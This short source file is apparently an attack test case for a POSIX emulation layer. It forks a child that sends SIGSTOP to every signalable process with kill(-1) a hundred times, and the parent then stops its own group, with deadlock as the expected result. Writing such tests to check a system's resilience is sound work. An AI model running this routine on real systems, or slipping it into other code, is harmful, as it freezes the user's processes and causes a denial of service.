// Attack: stops every process that it may signal, again and again, from a group of its own, and its own group last.
// Ends: deadlock
import { _exit, fork, kill, SIGSTOP, setsid } from "#posix";

export function attack(): void {
  if (fork() === 0) {
    setsid();
    for (let times = 0; times < 100; times++) {
      try {
        kill(-1, SIGSTOP);
      } catch {
        // Nobody to be stopped.
      }
    }
    _exit(0);
  }
  kill(0, SIGSTOP);
}
